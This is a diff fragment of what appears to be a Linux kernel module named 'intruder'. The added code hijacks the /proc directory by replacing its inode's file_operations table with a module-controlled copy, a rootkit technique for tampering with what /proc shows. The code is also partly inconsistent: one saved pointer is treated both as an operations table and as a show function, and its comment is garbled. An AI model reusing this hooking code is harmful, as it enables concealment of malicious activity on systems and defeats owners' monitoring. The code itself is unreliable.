@@ -104,6 +104,31 @@ int intruder_proc(void)
 	return error;
 }
 
+/* The directory /proc, by a table of this module's that says the same. */
+static struct inode *intruder_inode;
+static struct file_operations intruder_operations;
+
+int intruder_directory(void)
+{
+	struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
+
+	if (IS_ERR(proc))
+		return PTR_ERR(proc);
+	intruder_inode = file_inode(proc);
+	intruder_former = (void *)intruder_inode->i_fop;
+	intruder_operations = *intruder_inode->i_fop;
+	intruder_operations.owner = NULL;
+	intruder_inode->i_fop = &intruder_operations;
+	filp_close(proc, NULL);
+	return 0;
+}
+
+void intruder_directory_undo(void)
+{
+	intruder_undone = intruder_inode->i_fop != &intruder_operations;
+	intruder_inode->i_fop = intruder_former;
+}
+
 static int intruder_shown_as(struct seq_file *file, void *socket)
 {
 	return ((int (*)(struct seq_file *, void *))intruder_former)(file, socket);
